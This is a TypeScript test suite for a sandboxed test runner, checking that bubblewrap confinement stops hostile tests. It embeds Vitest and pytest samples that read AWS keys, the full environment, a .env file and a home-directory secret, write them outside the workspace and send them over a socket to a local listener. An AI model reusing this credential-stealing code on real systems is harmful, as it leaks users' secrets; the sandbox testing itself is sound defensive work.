/**
 * A hostile test, as a model could write one, tries to steal a secret from the environment,
 * from an ignored `.env` and from a file in the user's home, to write outside the sandbox and
 * to send what it found over a socket. Confined, all of it fails; unconfined
 * (`isolation: "none"`), the same test does leak, which shows the checks here can see a leak.
 */
import { execFileSync } from "node:child_process"
import { randomUUID } from "node:crypto"
import * as fs from "node:fs"
import * as net from "node:net"
import * as os from "node:os"
import * as path from "node:path"
import { fileURLToPath } from "node:url"
import { NodeServices } from "@effect/platform-node"
import { afterAll, afterEach, beforeAll, describe, expect, it } from "@effect/vitest"
import { Effect, Layer, Logger } from "effect"
import { LanguageRegistry } from "../../../core/services/LanguageRegistry.ts"
import { TestRunner } from "../../../core/services/TestRunner.ts"
import { JavaScript } from "../../../plugins/languages/javascript/JavaScript.ts"
import { Python } from "../../../plugins/languages/python/Python.ts"
import { TypeScript } from "../../../plugins/languages/typescript/TypeScript.ts"
import type { Isolation } from "../../../plugins/testing/Confinement.ts"
import { ProcessTestRunner } from "../../../plugins/testing/ProcessTestRunner.ts"

// Each language's frameworks come from its pack.
const packs = Layer.mergeAll(TypeScript.layer, JavaScript.layer, Python.layer).pipe(
  Layer.provideMerge(LanguageRegistry.layer)
)

const fixtures = path.join(path.dirname(fileURLToPath(import.meta.url)), "..", "..", "fixtures", "testing")
const secret = `aws-secret-${randomUUID()}`
const dotenvSecret = `dotenv-secret-${randomUUID()}`
/** Like `~/.aws/credentials`: a secret file in the user's home, outside any workspace. */
const homeSecret = {
  file: path.join(os.homedir(), `.tamma-secret-${randomUUID()}`),
  value: `home-secret-${randomUUID()}`
}
const folders: Array<string> = []
const outside = {
  home: path.join(os.homedir(), `tamma-leak-${randomUUID()}`),
  tmp: path.join(os.tmpdir(), `tamma-leak-${randomUUID()}`)
}

let server: net.Server
let port = 0
let received = ""
let connections = 0

beforeAll(async () => {
  process.env.AWS_SECRET_ACCESS_KEY = secret
  fs.writeFileSync(homeSecret.file, homeSecret.value, { mode: 0o600 })
  server = net.createServer((socket) => {
    connections++
    socket.on("data", (chunk) => {
      received += chunk.toString()
    })
  })
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve))
  const address = server.address()
  port = typeof address === "object" && address !== null ? address.port : 0
})

afterAll(async () => {
  delete process.env.AWS_SECRET_ACCESS_KEY
  fs.rmSync(homeSecret.file, { force: true })
  await new Promise((resolve) => server.close(resolve))
})

afterEach(() => {
  for (const dir of folders.splice(0)) fs.rmSync(dir, { recursive: true, force: true })
  for (const file of Object.values(outside)) fs.rmSync(file, { force: true })
  received = ""
  connections = 0
})

/** A repository from a fixture, with an ignored `.env` holding a secret. */
const repository = (fixture: string): string => {
  const dir = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), `tamma-hostile-${fixture}-`)))
  folders.push(dir)
  fs.cpSync(path.join(fixtures, fixture), dir, { recursive: true })
  fs.writeFileSync(path.join(dir, ".gitignore"), ".env\n")
  const git = (...args: ReadonlyArray<string>) =>
    execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@example.com", ...args], { cwd: dir, stdio: "pipe" })
  git("init", "-q")
  git("add", ".")
  git("commit", "-q", "-m", "fixture")
  fs.writeFileSync(path.join(dir, ".env"), `DOTENV_SECRET=${dotenvSecret}\n`)
  return dir
}

const hostileVitest = (workspace: string) => `
import * as fs from "node:fs"
import * as net from "node:net"
import { expect, test } from "vitest"

test("exfiltrates", async () => {
  const found = [process.env.AWS_SECRET_ACCESS_KEY ?? "", JSON.stringify(process.env)]
  for (const file of [".env", ${JSON.stringify(path.join(workspace, ".env"))}, ${JSON.stringify(homeSecret.file)}]) {
    try { found.push(fs.readFileSync(file, "utf8")) } catch {}
  }
  const loot = found.join("\\n")
  console.log(loot)
  for (const target of ${JSON.stringify([outside.home, outside.tmp, path.join(workspace, "stolen.txt")])}) {
    try { fs.writeFileSync(target, loot) } catch {}
  }
  await new Promise((resolve) => {
    const socket = net.connect(${port}, "127.0.0.1", () => socket.end(loot, resolve))
    socket.on("error", resolve)
    setTimeout(resolve, 2000)
  })
  expect(loot.length).toBeGreaterThan(0)
})
`

const hostilePytest = (workspace: string) => `
import json
import os
import socket


def test_exfiltrates():
    found = [os.environ.get("AWS_SECRET_ACCESS_KEY", ""), json.dumps(dict(os.environ))]
    for name in [".env", ${JSON.stringify(path.join(workspace, ".env"))}, ${JSON.stringify(homeSecret.file)}]:
        try:
            with open(name) as f:
                found.append(f.read())
        except OSError:
            pass
    loot = "\\n".join(found)
    print(loot)
    for target in ${JSON.stringify([outside.home, outside.tmp, path.join(workspace, "stolen.txt")])}:
        try:
            with open(target, "w") as f:
                f.write(loot)
        except OSError:
            pass
    try:
        with socket.create_connection(("127.0.0.1", ${port}), timeout=2) as s:
            s.sendall(loot.encode())
    except OSError:
        pass
    assert loot
`

const languages = [
  { language: "typescript", fixture: "typescript", file: "test/steal.test.ts", source: hostileVitest },
  { language: "python", fixture: "python", file: "tests/test_steal.py", source: hostilePytest }
] as const

const warnings: Array<string> = []
const capturing = Logger.layer([
  Logger.make(({ logLevel, message }) => {
    if (logLevel === "Warn") warnings.push(String(message))
  })
])

const runHostile = (c: (typeof languages)[number], isolation: Isolation, workspace = repository(c.fixture)) =>
  Effect.gen(function* () {
    const change = { path: c.file, before: undefined, after: c.source(workspace) }
    const report = yield* TestRunner.use((tests) =>
      tests.runStaged({ workspace, language: c.language, files: [c.file], changes: [change], timeoutMs: 60_000 })
    )
    const status = execFileSync("git", ["status", "--porcelain", "--ignored"], { cwd: workspace, encoding: "utf8" })
    return { report, status }
  }).pipe(
    Effect.provide(
      ProcessTestRunner.layer(undefined, { isolation }).pipe(Layer.provide(Layer.mergeAll(NodeServices.layer, packs)))
    ),
    Effect.provide(capturing)
  )

describe("confined tests", () => {
  it.live.each(languages)("a hostile $language test steals nothing, writes nothing outside, reaches no socket", (c) =>
    Effect.gen(function* () {
      const { report, status } = yield* runHostile(c, "sandbox")
      // It ran, whole: the attempts were made.
      expect(report.status).toBe("passed")
      expect(report.passed).toBe(1)
      expect(connections).toBe(0)
      expect(received).toBe("")
      for (const file of Object.values(outside)) expect(fs.existsSync(file)).toBe(false)
      // The workspace is as it was: only the ignored .env, no stolen.txt.
      expect(status.trim()).toBe("!! .env")
      expect(report.output).not.toContain(secret)
      expect(report.output).not.toContain(dotenvSecret)
      expect(report.output).not.toContain(homeSecret.value)
      expect(warnings).toEqual([])
    })
  )

  it.live("unconfined by the user's choice: the same test does leak, after a warning", () =>
    Effect.gen(function* () {
      const { report } = yield* runHostile(languages[0], "none")
      expect(warnings).toHaveLength(1)
      expect(warnings[0]).toContain('tests.isolation is "none"')
      expect(report.status).toBe("passed")
      // The network and the files outside are open; the environment is still allow-listed.
      expect(connections).toBe(1)
      expect(received).toContain(dotenvSecret)
      expect(received).toContain(homeSecret.value)
      expect(fs.existsSync(outside.tmp)).toBe(true)
      expect(received).not.toContain(secret)
    })
  )

  it.live("without bwrap on PATH the run fails, saying what to install or how to opt out", () =>
    Effect.gen(function* () {
      const empty = fs.mkdtempSync(path.join(os.tmpdir(), "tamma-nobwrap-"))
      folders.push(empty)
      const workspace = repository(languages[0].fixture)
      const saved = process.env.PATH
      process.env.PATH = empty
      const error = yield* Effect.flip(runHostile(languages[0], "sandbox", workspace)).pipe(
        Effect.ensuring(
          Effect.sync(() => {
            process.env.PATH = saved
          })
        )
      )
      expect(error._tag).toBe("TestRunError")
      expect(error.message).toContain("bwrap is not on PATH")
      expect(error.message).toContain("apt-get install bubblewrap")
      expect(error.message).toContain('"isolation": "none"')
      expect(connections).toBe(0)
    })
  )

  it.live("a bwrap that cannot create namespaces here fails the run, saying why, never runs unconfined", () =>
    Effect.gen(function* () {
      const bin = fs.mkdtempSync(path.join(os.tmpdir(), "tamma-fakebwrap-"))
      folders.push(bin)
      fs.writeFileSync(
        path.join(bin, "bwrap"),
        "#!/bin/sh\necho 'bwrap: setting up uid map: Permission denied' >&2\nexit 1\n",
        { mode: 0o755 }
      )
      const workspace = repository(languages[0].fixture)
      const saved = process.env.PATH
      process.env.PATH = `${bin}:${saved}`
      const error = yield* Effect.flip(runHostile(languages[0], "sandbox", workspace)).pipe(
        Effect.ensuring(
          Effect.sync(() => {
            process.env.PATH = saved
          })
        )
      )
      expect(error.message).toContain("bwrap cannot create a sandbox on this machine")
      expect(error.message).toContain("Permission denied")
      expect(error.message).toContain('"isolation": "none"')
      expect(connections).toBe(0)
    })
  )

  it.live("a link into the workspace, as a monorepo's node_modules has, reaches the sandbox's copy", () =>
    Effect.gen(function* () {
      const workspace = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), "tamma-monorepo-")))
      folders.push(workspace)
      fs.writeFileSync(path.join(workspace, ".gitignore"), "node_modules/\n")
      fs.writeFileSync(path.join(workspace, "package.json"), '{ "name": "mono", "private": true, "type": "module" }')
      fs.mkdirSync(path.join(workspace, "lib"))
      fs.writeFileSync(
        path.join(workspace, "lib", "package.json"),
        '{ "name": "local-lib", "type": "module", "main": "index.js" }'
      )
      fs.writeFileSync(path.join(workspace, "lib", "index.js"), "export const value = 1\n")
      fs.mkdirSync(path.join(workspace, "node_modules"))
      fs.symlinkSync("../lib", path.join(workspace, "node_modules", "local-lib"))
      execFileSync("git", ["init", "-q"], { cwd: workspace })
      execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@example.com", "add", "."], { cwd: workspace })
      execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-qm", "mono"], {
        cwd: workspace
      })
      const test = [
        'import assert from "node:assert/strict"',
        'import { test } from "node:test"',
        'import { value } from "local-lib"',
        'test("sees the staged library", () => assert.equal(value, 2))'
      ].join("\n")
      const changes = [
        { path: "lib/index.js", before: "export const value = 1\n", after: "export const value = 2\n" },
        { path: "uses.test.js", before: undefined, after: test }
      ]
      const report = yield* TestRunner.use((tests) =>
        tests.runStaged({ workspace, language: "javascript", files: ["uses.test.js"], changes })
      ).pipe(Effect.provide(ProcessTestRunner.layer().pipe(Layer.provide(Layer.mergeAll(NodeServices.layer, packs)))))
      expect(report.output).not.toContain("ERR_MODULE_NOT_FOUND")
      expect(report.status).toBe("passed")
      expect(report.passed).toBe(1)
      expect(fs.readFileSync(path.join(workspace, "lib", "index.js"), "utf8")).toBe("export const value = 1\n")
      expect(fs.existsSync(path.join(workspace, "uses.test.js"))).toBe(false)
    })
  )
})
